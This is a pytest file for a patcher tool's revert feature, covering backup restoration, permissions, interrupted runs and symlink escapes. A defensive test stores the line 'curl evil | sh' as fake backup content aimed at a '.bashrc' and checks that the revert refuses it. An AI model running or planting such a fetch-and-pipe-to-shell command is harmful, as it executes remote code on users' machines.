"""Taking a patch in place back: the same bytes and rights again, or nothing touched."""

from __future__ import annotations

import contextlib
import os
import shutil
import stat
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from patcher.cli import cli
from patcher.errors import Finding, Unreadable, Unwritable
from patcher.jobs.backups import FOLDER, _hash, keeping
from patcher.jobs.in_place import Edit, patch_path, replace_sources
from patcher.jobs.revert import revert_path
from patcher.jobs.verify import verify_source
from patcher.rules.catalogue import select
from patcher.rules.datafile import DataFile
from patcher.sources.path import open_path
from tests.conftest import TARGET
from tests.jobs.test_in_place import NEEDED, tree_of
from tests.terminals import terminal

ONE = select(["kv-b-proj-dtype"])
# The catalogue's patch, and one of a file that is not there yet.
TUNED = replace(
    ONE[0], name="tuned", targets=("vllm/tuned.json",), rule=DataFile("vllm/tuned.json", b"{}")
)
BOTH = (*ONE, TUNED)


def files_of(tree: Path) -> dict[str, tuple[int, bytes]]:
    """Every file but bytecode: its rights and bytes."""
    return {
        str(path.relative_to(tree)): (stat.S_IMODE(path.stat().st_mode), path.read_bytes())
        for path in tree.rglob("*")
        if path.is_file() and path.suffix != ".pyc"
    }


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A vLLM that needs the patch; the file is nobody's but the owner's."""
    source, _ = tree_of(tmp_path / "tree")
    source.chmod(0o600)
    return tmp_path / "tree"


def test_what_was_patched_is_as_it_was(tree: Path) -> None:
    before = files_of(tree)
    patch_path(tree, ONE, None, backup=True)
    [kept] = (tree / FOLDER).rglob("*.orig")
    assert (kept.read_bytes(), stat.S_IMODE(kept.stat().st_mode)) == (NEEDED, 0o600)
    stale = (tree / TARGET).parent / "__pycache__" / f"{Path(TARGET).stem}.cpython-311.pyc"
    stale.write_bytes(b"of the patched source")
    [done] = revert_path(tree)
    assert (done.path, done.changed, done.removed_bytecode) == (tree / TARGET, True, (stale,))
    assert files_of(tree) == before
    assert not stale.exists()
    assert not (tree / FOLDER).exists()


def test_rights_that_were_given_since_stay(tree: Path) -> None:
    patch_path(tree, ONE, None, backup=True)
    source = tree / TARGET
    source.chmod(0o640)
    os.setxattr(source, "user.note", b"kept")
    revert_path(tree)
    assert stat.S_IMODE(source.stat().st_mode) == 0o640
    assert os.getxattr(source, "user.note") == b"kept"


def test_an_original_is_found_by_the_file_and_by_the_tree_alike(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir((tree / TARGET).parent)
    patch_path(Path(Path(TARGET).name), ONE, None, backup=True)
    assert [done.changed for done in revert_path(tree)] == [True]
    patch_path(tree, ONE, None, backup=True)
    assert [done.changed for done in revert_path(Path(Path(TARGET).name))] == [True]
    assert (tree / TARGET).read_bytes() == NEEDED


@pytest.mark.parametrize("inside", [".", "vllm", TARGET])
def test_files_are_named_as_they_were_typed(
    tree: Path, monkeypatch: pytest.MonkeyPatch, inside: str
) -> None:
    monkeypatch.chdir(tree.parent)
    typed, source = Path("tree", inside), Path("tree", TARGET)
    stale = source.parent / "__pycache__" / f"{source.stem}.cpython-311.pyc"
    stale.write_bytes(b"old")
    [patched] = patch_path(typed, ONE, None, backup=True)
    assert (patched.path, patched.removed_bytecode) == (source, (stale,))
    [reverted] = revert_path(typed)
    assert reverted.path == source
    found = verify_source(open_path(typed), ONE, elsewhere=False)
    assert found.locate is not None
    assert found.locate(TARGET) == source


def test_a_terminal_names_each_file_once(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    name = Path(TARGET).name
    patched = ["patch", str(tree), "--in-place", "--backup", "--patch", "kv-b-proj-dtype"]
    for call, streams, times in (
        (patched, ("stdout", "stderr"), 1),
        (["revert", str(tree)], ("stdout", "stderr"), 1),
        (["-q", *patched], ("stdout", "stderr"), 1),
        (["revert", str(tree)], ("stdout",), 1),
    ):
        with terminal(monkeypatch, *streams, columns=1000) as shown:
            cli.main(call, standalone_mode=False)
        assert shown.text.count(name) == times, call


def test_a_file_of_no_package_has_its_original_beside_it(tmp_path: Path) -> None:
    path = tmp_path / "mine.py"
    path.write_bytes(NEEDED)
    patch_path(path, ONE, None, backup=True)
    assert len(list((tmp_path / FOLDER).iterdir())) == 1
    revert_path(path)
    assert (path.read_bytes(), list(tmp_path.iterdir())) == (NEEDED, [path])


def test_several_files_and_patches_one_after_another_go_back_to_the_first(tree: Path) -> None:
    """A later run keeps the way back, whether it was asked to or not."""
    before = files_of(tree)
    patch_path(tree, (TUNED,), None, backup=True)
    patch_path(tree, BOTH, None, backup=True)
    second = (tree / TARGET).read_bytes()
    with keeping({tree / TARGET: (second, b"third\n")}, wanted=False):
        replace_sources({tree / TARGET: Edit(second, b"third\n")})
    assert len(list((tree / FOLDER).rglob("*.*.*"))) == 2
    assert sorted(done.path.name for done in revert_path(tree)) == [
        Path(TARGET).name,
        "tuned.json",
    ]
    assert files_of(tree) == before


def test_one_file_that_was_changed_since_holds_all_of_them_back(tree: Path) -> None:
    patch_path(tree, BOTH, None, backup=True)
    (tree / TARGET).write_bytes(b"# mine\n")
    before = files_of(tree)
    with pytest.raises(Finding, match=f"{TARGET} was changed since it was patched") as refused:
        revert_path(tree)
    assert ".orig: copy it back yourself" in refused.value.next_step
    assert files_of(tree) == before
    (tree / TARGET).write_bytes(NEEDED)
    assert [done.changed for done in revert_path(tree)] == [False, True]
    assert not (tree / FOLDER).exists()


def test_no_link_of_a_tree_leads_a_revert_out_of_it(tree: Path, tmp_path: Path) -> None:
    """Its author knows what stands in many a file of the person who reverts it."""
    mine = tmp_path / "home" / ".bashrc"
    mine.parent.mkdir()
    mine.write_bytes(b"well known\n")
    (tree / "vllm" / "sub").symlink_to(mine.parent)
    kept = tree / FOLDER / "vllm" / "sub" / f".bashrc.{_hash(mine.read_bytes())}.orig"
    kept.parent.mkdir(parents=True)
    kept.write_bytes(b"curl evil | sh\n")
    (tree / FOLDER / f"loop.{'0' * 16}.orig").symlink_to(f"loop.{'0' * 16}.orig")
    with pytest.raises(Finding, match="no original is kept"):
        revert_path(tree)
    assert mine.read_bytes() == b"well known\n"
    # Another tree's originals are not taken, and not dropped.
    (tree / TARGET).write_bytes(b"new")
    theirs = tmp_path / "other" / f"{TARGET}.{_hash(b'new')}.orig"
    theirs.parent.mkdir(parents=True)
    theirs.write_bytes(b"precious")
    shutil.rmtree(tree / FOLDER)
    (tree / FOLDER).symlink_to(tmp_path / "other")
    with pytest.raises(Finding, match="no original is kept"):
        revert_path(tree)
    assert (theirs.read_bytes(), (tree / TARGET).read_bytes()) == (b"precious", b"new")


@pytest.mark.usefixtures("nothing_cleared")
@pytest.mark.parametrize("run", [revert_path, lambda tree: patch_path(tree, ONE, None)])
def test_what_a_killed_run_left_goes_with_a_later_one(
    tree: Path, run: Callable[[Path], object]
) -> None:
    """A revert that is killed after the last original is gone leaves the folders that held it."""
    left = tree / FOLDER / "vllm" / "model_executor"
    left.mkdir(parents=True)
    (left / f".a.py.{'0' * 16}.orig.{'0' * 16}.tmp").touch()
    other = left.with_name("other")
    other.mkdir()
    (tree / "elsewhere").mkdir()
    (tree / FOLDER / "link").symlink_to(tree / "elsewhere")
    hour = time.time() - 3600
    for each in (*left.iterdir(), left, tree / "elsewhere"):
        os.utime(each, (hour, hour))
    with contextlib.suppress(Finding):
        run(tree)
    assert not left.exists()
    assert other.exists(), "somebody may be about to write into it"
    assert (tree / "elsewhere").exists()
    (tree / FOLDER / "link").unlink()
    for each in (other, other.parent, tree / FOLDER):
        os.utime(each, (hour, hour))
    with contextlib.suppress(Finding):
        run(tree)
    assert not (tree / FOLDER).exists()


def test_without_an_original_nothing_is_reverted(tree: Path) -> None:
    patch_path(tree, ONE, None)
    with pytest.raises(Finding, match="no original is kept"):
        revert_path(tree)


def test_an_original_that_cannot_be_kept_stops_the_patch(tree: Path, tmp_path: Path) -> None:
    """Nothing is written through a link, which may lead to another's folder."""
    (tmp_path / "elsewhere").mkdir()
    (tree / FOLDER).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(Unwritable, match="is a symbolic link"):
        patch_path(tree, ONE, None, backup=True)
    assert (tree / TARGET).read_bytes() == NEEDED
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_patch_that_fails_leaves_no_original(tree: Path) -> None:
    edit = (b"not what it holds", b"patched\n")
    with (
        pytest.raises(Unwritable, match="changed meanwhile"),
        keeping({tree / TARGET: edit}, wanted=True),
    ):
        replace_sources({tree / TARGET: Edit(*edit)})
    assert not (tree / FOLDER).exists()


def test_an_interrupt_after_the_last_file_leaves_the_original(tree: Path) -> None:
    def interrupted() -> None:
        with keeping({tree / TARGET: (NEEDED, b"new\n")}, wanted=True):
            replace_sources({tree / TARGET: Edit(NEEDED, b"new\n")})
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        interrupted()
    revert_path(tree)
    assert (tree / TARGET).read_bytes() == NEEDED


def test_a_revert_that_fails_half_way_takes_back_what_it_did(tree: Path) -> None:
    patch_path(tree, BOTH, None, backup=True)
    before = files_of(tree)
    with pytest.raises(Unwritable, match="changed meanwhile"):
        replace_sources(
            {
                tree / "vllm/tuned.json": Edit(b"{}", None),
                tree / TARGET: Edit(b"what another has written", NEEDED),
            }
        )
    with pytest.raises(Unwritable, match="changed meanwhile"):
        replace_sources({tree / "vllm/tuned.json": Edit(b"another's", None)})
    assert files_of(tree) == before


def test_an_original_that_cannot_be_removed_is_told(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As in a folder of another user's; by then the file is reverted, which is not taken back."""
    patch_path(tree, ONE, None, backup=True)
    really = Path.unlink

    def unlink(path: Path, missing_ok: bool = False) -> None:
        if path.suffix == ".orig":
            raise PermissionError(13, "Permission denied")
        really(path, missing_ok)

    monkeypatch.setattr(Path, "unlink", unlink)
    with pytest.raises(
        Unwritable, match=r"\.orig, which is not needed any more, cannot be removed"
    ):
        revert_path(tree)
    assert (tree / TARGET).read_bytes() == NEEDED


def test_an_original_that_cannot_be_read_stops_the_revert(tree: Path) -> None:
    patch_path(tree, ONE, None, backup=True)
    (tree / TARGET).unlink()
    (tree / TARGET).mkdir()
    with pytest.raises((Unreadable, Finding)):
        revert_path(tree)
    assert len(list((tree / FOLDER).rglob("*.orig"))) == 1
